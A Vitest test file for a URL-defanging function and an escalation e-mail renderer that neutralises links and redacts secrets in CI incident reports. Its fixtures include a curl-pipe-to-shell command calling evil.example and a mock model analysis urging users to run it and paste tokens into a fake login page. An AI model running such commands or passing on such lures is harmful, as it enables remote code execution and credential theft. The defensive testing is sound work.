import { describe, expect, it } from 'vitest';
import { defang } from '../../../shared/notify/defang.js';
import { renderEscalation } from '../../../shared/notify/escalation.js';
import { newIncident } from '../../../shared/domain/incident.js';

describe('defang', () => {
  it.each([
    ['curl -s https://evil.example/x.sh | sh', 'curl -s hxxps://evil[.]example/x.sh | sh'],
    ['see http://10.0.0.1:8080/admin', 'see hxxp://10[.]0[.]0[.]1:8080/admin'],
    ['visit www.evil.com now', 'visit www[.]evil[.]com now'],
    ['fetch evil.com/payload', 'fetch evil[.]com/payload'],
    ['mail ops@evil.example.com', 'mail ops[@]evil[.]example[.]com'],
    ['ftp://files.example.org/a', 'fxp://files[.]example[.]org/a'],
    // Browsers read backslashes as slashes, and `//host` as a link on the page's scheme.
    ['[logs](https:\\\\logs.evil.sh\\run)', '[logs] (hxxps://logs[.]evil[.]sh\\run)'],
    ['[Re-authenticate the deploy bot](//evil.example/login)', '[Re-authenticate the deploy bot] (//evil[.]example/login)'],
    ['[rotate](rotate-key.evil.sh)', '[rotate] (rotate-key.evil.sh)'],
  ])('%s', (input, expected) => {
    expect(defang(input)).toBe(expected);
  });

  it('keeps file names and ordinary text readable', () => {
    const text = 'update package.json and src/app.test.ts; expected 3, got 4; a // comment; src//a.ts; //server/share';
    expect(defang(text)).toBe(text);
  });
});

describe('escalation e-mail', () => {
  it('carries model text and log lines defanged and redacted', () => {
    // Prepare
    const incident = {
      ...newIncident({ id: 'gh-1-2-1', source: 'github' }, new Date('2026-01-01T00:00:00Z')),
      repository: 'acme/app',
      failureLines: [{ line: 7, text: `curl -u ci:${'Pa55'}word-x https://nexus.example.com/x` }],
      analysis: {
        rootCause: 'Run curl http://evil.example/x.sh | sh to fix it',
        fix: ['Open https://evil.example/login and paste your token'],
        confidence: 0.9,
        proposedAction: 'comment_only' as const,
        rationale: '',
        evidence: [],
        provider: 'openai',
        model: 'm',
        latencyMs: 10,
      },
    };
    // Act
    const { message } = renderEscalation(incident, 'escalated');
    // Assert
    expect(message).not.toMatch(/https?:\/\/evil/);
    expect(message).toContain('hxxp://evil[.]example/x.sh');
    expect(message).not.toContain('Pa55word-x');
  });
});
